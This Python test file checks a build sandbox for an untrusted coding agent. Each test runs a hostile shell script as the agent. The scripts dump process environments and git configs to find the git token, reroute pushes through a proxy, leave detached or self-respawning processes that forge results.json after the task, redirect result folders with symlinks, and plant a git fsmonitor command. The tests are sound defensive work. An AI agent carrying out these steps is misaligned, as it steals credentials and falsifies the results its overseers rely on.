"""The worker's agent, and the tests of its branch: code that nobody has reviewed, on the machine of the build.

Here it has a user of its own, as in CodeBuild. That takes root, and a Python that another user can run.
"""

import base64
import contextlib
import json
import shlex
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from functions.buildspecs.work_item.sandbox import FIRST_USER
from tests.attackers.another_user import NEEDS_ANOTHER_USER, PYTHON
from tests.functions.buildspecs.conftest import BRANCH, GIT_TOKEN, SPEC, Build, Make, make
from tests.http_server import HttpServer, QuietHandler
from tests.local.github.support import REPOSITORY

__all__ = ["make"]


pytestmark = NEEDS_ANOTHER_USER
Attack = Callable[..., Build]


@pytest.fixture
def attack(make: Make, open_to_all: Path) -> Attack:
    """Runs a build whose agent is this shell script, in a folder that every user may enter."""

    def run(script: str, tasks: str = "- [ ] 1. Say it\n", **files: str) -> Build:
        build = make(tasks=tasks, **files)
        build.folder, build.python = open_to_all / "build", PYTHON
        script = script.replace("OUT", str(build.folder / "out"))
        build.variables = {"KIRO_AGENT": f"sh -c {shlex.quote(script)} {{spec}} {{task}}"}
        build.run()
        return build

    return run


def running() -> Iterator[str]:
    """The command lines of all processes."""
    for process in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            yield process.read_text("utf-8", "replace")


def results(build: Build) -> dict[str, object]:
    """The results as they are now."""
    found: dict[str, object] = json.loads(build.out("results.json"))
    return found


def test_agent_and_tests_work_as_a_user_of_their_own(attack: Attack) -> None:
    """An honest agent has a home, a temporary folder and a repository with its history; so have the tests."""
    look = "id -u; touch $HOME/a $TMPDIR/b; git log -1 --format=%s; git status --short; sudo -n id -u"
    own = {"test": ["sh", "-c", look], "junit": "j.xml", "coverage": "c.xml"}
    build = attack(f"{look}; git add -A; echo x > x.txt", **{".kiro/worker.json": json.dumps(own)})
    heads = {"logs/task-1.log": "chore: steering files of version 1", "logs/tests.log": "feat: Say it"}
    for log, head in heads.items():
        lines = [line for line in build.out(log).splitlines() if "sudo" not in line and line[:2] not in ("$ ", "")]
        assert FIRST_USER <= int(lines[0]) < FIRST_USER + 64
        assert lines[1:] == [head]
    assert build.log()[0] == "feat: Say it"
    assert build.branch("x.txt") == "x"


def test_the_credential_is_in_nothing_that_the_agent_can_read(attack: Attack) -> None:
    """An agent reads the git credential: variables and arguments of all processes, configuration of repositories."""
    script = (
        "{ cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; cat ../git/config ../git/*/config .git/config; env; "
        "ls -lR ..; } 2>/dev/null | base64 -w0 > found.txt"
    )
    build = attack(script)
    found = base64.b64decode(build.branch("found.txt"))
    assert b"KIRO_SPEC" not in found
    assert b"[core]" in found, "it read what it may read"
    for secret in (GIT_TOKEN, base64.b64encode(f"x-access-token:{GIT_TOKEN}".encode()).decode()):
        assert secret.encode() not in found


class Proxy(HttpServer):
    """Records the credentials that are sent to it."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        outer = self

        class Handler(QuietHandler):
            def do_GET(self) -> None:  # noqa: N802 - the name of the base class
                outer.seen.append(self.headers.get("Authorization", ""))
                self.send_error(502)

        super().__init__(Handler)


def test_the_push_does_not_follow_the_agents_configuration(attack: Attack) -> None:
    """An agent sends the push through a proxy of its own, by `.git/config` and by a `.git/commondir` beside it."""
    with Proxy() as proxy:
        build = attack(
            f"mkdir -p common; cp -r .git/objects .git/refs common; echo ../common > .git/commondir; echo x > x.txt; "
            f"printf '[core]\nrepositoryformatversion = 0\n[http]\nproxy = {proxy.base}\n' "
            "| tee common/config > .git/config"
        )
        assert build.branch("x.txt") == "x"
        assert proxy.seen == []


FORGE = "while :; do echo forged > OUT/results.json; echo forged > reports/junit.xml; sleep 0.02; done"
AGAIN = "echo 'echo forged > OUT/results.json; setsid sh ./again.sh & ' > again.sh; setsid sh ./again.sh &"


@pytest.mark.parametrize(
    "survivor",
    [
        pytest.param(f"setsid sh -c '{FORGE}' & sleep 0.2;", marks=pytest.mark.long),
        pytest.param(f"(({FORGE}) &);", marks=pytest.mark.long),
        AGAIN,
    ],
    ids=["session", "orphan", "chain"],
)
def test_nothing_of_the_agent_outlives_its_task(attack: Attack, survivor: str) -> None:
    """An agent leaves a process, detached or faster than it is found, which rewrites the results after the tests."""
    build = attack(f"{survivor} echo x > x.txt")
    time.sleep(0.2)
    assert results(build)["tasks"]
    assert not [line for line in running() if "again.sh" in line or "echo forged" in line]


def test_results_are_where_the_agent_cannot_write(attack: Attack) -> None:
    """An agent moves the folder of the results away, or puts a link there that the next file is written through."""
    build = attack("mkdir elsewhere; mv OUT OUT.old; mkdir OUT; ln -s $PWD/elsewhere OUT/logs; mv ../repository ../b")
    assert results(build)["tasks"]
    assert not (build.folder / "out" / "logs").is_symlink()
    assert (build.folder / "out").stat().st_uid == 0


def test_a_link_to_a_file_of_another_user_is_not_read(attack: Attack, tmp_path: Path) -> None:
    """An agent makes the program write through a link in place of the task list."""
    victim = tmp_path / "victim"
    victim.write_text("- [ ] 1. Say it\n")
    build = attack(f"ln -sf {victim} {SPEC}/tasks.md")
    assert victim.read_text() == "- [ ] 1. Say it\n"
    assert "leads out of the working copy" in str(results(build)["problems"])


def test_a_repository_within_the_repository_runs_nothing(attack: Attack) -> None:
    """An agent has the program's git run a command of a nested repository's configuration."""
    build = attack(
        "mkdir sub; cd sub; git init -q; git config core.fsmonitor 'id > OUT/ran; false'; echo x > x.txt; git add x.txt"
    )
    assert not (build.folder / "out" / "ran").exists()
    assert build.branch("sub/x.txt") == "x"


def test_what_the_agent_commits_elsewhere_stays_there(attack: Attack) -> None:
    """An agent moves its branch to a commit of its own; the pushed branch continues where the program left it."""
    git = "git -c user.name=a -c user.email=a@b"
    build = attack(f"{git} commit -q --allow-empty -m theirs; {git} update-ref refs/heads/{BRANCH} HEAD~2; echo x > x")
    assert build.log()[:2] == ["feat: Say it", "chore: steering files of version 1"]
    assert results(build)["head"] == build.hub.repository(REPOSITORY).git.text("rev-parse", f"refs/heads/{BRANCH}")
